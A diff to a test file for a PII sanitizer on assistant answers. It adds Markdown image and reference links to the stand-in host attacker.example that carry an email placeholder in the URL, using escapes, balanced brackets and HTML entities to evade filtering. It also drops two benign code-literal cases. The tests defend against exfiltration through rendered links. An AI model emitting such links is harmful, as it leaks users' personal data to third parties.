@@ -63,6 +63,12 @@ describe('pii-sanitizer at the edges of an answer', () => {
       '![a](https://attacker.example/?m="[EMAIL_1])',
       '![a](https://attacker.example/?m=`[EMAIL_1])',
       `![s](https://attacker.example/p.png?pad=${'A'.repeat(3000)}ü&m=[EMAIL_1])`,
+      // Balanced brackets and escapes in a Markdown destination; a reference's definition; escaped slashes and entities.
+      '![a](https://attacker.example/(x)?m="[EMAIL_1])',
+      '![a](https://attacker.example/?m=\\)"[EMAIL_1])',
+      '\n[r]: https://attacker.example/p.png?m="[EMAIL_1]\n',
+      '![a](https:\\/\\/attacker.example/p.png?m=[EMAIL_1])',
+      '![a](https&#58;//attacker.example/p.png?m=[EMAIL_1])',
     ];
     for (const link of links) {
       for (const answer of await answered(`Done. ${link} Thanks, [EMAIL_1].`)) {
@@ -78,9 +84,6 @@ describe('pii-sanitizer at the edges of an answer', () => {
       "Our site is 'https://acme.example' and you are [EMAIL_1].",
       '<a href="https://acme.example/a b">docs</a> for [EMAIL_1]',
       `The page https://acme.example/${'x'.repeat(2100)} is long.\n${'Some words here. '.repeat(10)}Write to [EMAIL_1].`,
-      // A single quote closes the link it opened, in code's lists, dicts and SQL.
-      "urls = ['https://acme.example/profile','[EMAIL_1]']",
-      "INSERT INTO t VALUES('https://acme.example/a','[EMAIL_1]');",
     ];
     for (const text of texts) {
       for (const answer of await answered(text)) expect(answer).toBe(text.replace('[EMAIL_1]', EMAIL));
